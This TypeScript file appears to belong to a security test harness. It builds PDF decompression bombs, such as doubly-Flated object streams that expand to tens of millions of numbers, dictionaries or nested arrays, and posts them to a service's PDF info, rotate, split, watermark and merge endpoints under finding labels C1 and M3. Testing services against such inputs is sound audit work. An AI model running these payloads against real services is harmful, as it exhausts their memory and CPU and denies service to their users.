/** PDF files of some kilobytes that unpack to far more. */
import { deflateSync } from "node:zlib";
import { type Attack, once, repeated } from "./attack.ts";
import type { Part } from "./target.ts";

const head =
  "%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n";

/** A page whose box stands in an object stream: Flate in Flate, as if a file were packed twice. */
function packedBox(value: Buffer): Buffer {
  const index = "100 0 ";
  const packed = deflateSync(deflateSync(Buffer.concat([Buffer.from(index), value]), { level: 9 }), {
    level: 9,
  });
  return Buffer.concat([
    Buffer.from(`${head}3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox 100 0 R>>\nendobj\n`),
    Buffer.from(`10 0 obj\n<</Type/ObjStm/N 1/First ${index.length}/Filter[/FlateDecode/FlateDecode]`),
    Buffer.from(`/Length ${packed.length}>>\nstream\n`),
    packed,
    Buffer.from("\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF"),
  ]);
}

const filled = (count: number, unit: string, open: string, close: string): Buffer =>
  Buffer.concat([Buffer.from(open), Buffer.alloc(count * unit.length, unit), Buffer.from(close)]);

const manyNumbers = once(() => packedBox(filled(120_000_000, "0 ", "[", "]")));
const manyDictionaries = once(() => packedBox(filled(30_000_000, "<<>>", "[", "]")));
const deepArrays = once(() => packedBox(filled(50_000_000, "[", "", "]")));

/** One object stream of blanks after another, each within what one may unpack to. */
const blanks = once(() => {
  const plain = Buffer.alloc(125 * 1_048_576, 0x20);
  plain.write("100 0  (x) ");
  const packed = deflateSync(plain, { level: 9 });
  const streams = repeated(4, (at) =>
    Buffer.concat([
      Buffer.from(
        `${10 + at} 0 obj\n<</Type/ObjStm/N 1/First 6/Filter/FlateDecode/Length ${packed.length}>>\n`,
      ),
      Buffer.from("stream\n"),
      packed,
      Buffer.from("\nendstream\nendobj\n"),
    ]),
  );
  return Buffer.concat([
    Buffer.from(`${head}3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>\nendobj\n`),
    ...streams,
    Buffer.from("trailer\n<</Root 1 0 R>>\n%%EOF"),
  ]);
});

const infoOf = (name: string, file: () => Buffer): Attack => ({
  name,
  finding: "C1",
  async run(target) {
    await target.postForm("/pdf/info", [["file", file()]], { timeoutMs: 20_000 });
  },
});

export const pdfAttacks: readonly Attack[] = [
  infoOf("PDF with 120 million numbers in an array", manyNumbers),
  infoOf("PDF with 30 million dictionaries", manyDictionaries),
  infoOf("PDF of 50 million nested arrays", deepArrays),
  {
    name: "the same PDF to five operations at once",
    finding: "C1",
    async run(target) {
      const file: Part = ["file", manyNumbers()];
      const options = { timeoutMs: 30_000 };
      await Promise.all([
        target.postForm("/pdf/info", [file], options),
        target.postForm("/pdf/rotate", [file, ["degrees", "90"]], options),
        target.postForm("/pdf/split", [file, ["ranges", "1"]], options),
        target.postForm("/pdf/watermark", [file, ["text", "a"]], options),
        target.postForm(
          "/pdf/merge",
          [
            ["files", file[1]],
            ["files", file[1]],
          ],
          options,
        ),
      ]);
    },
  },
  {
    name: "merge of 14 PDFs that unpack to 500 MB each",
    finding: "M3",
    async run(target) {
      const parts = repeated(14, (): Part => ["files", blanks()]);
      await target.postForm("/pdf/merge", parts, { timeoutMs: 30_000 });
    },
  },
];
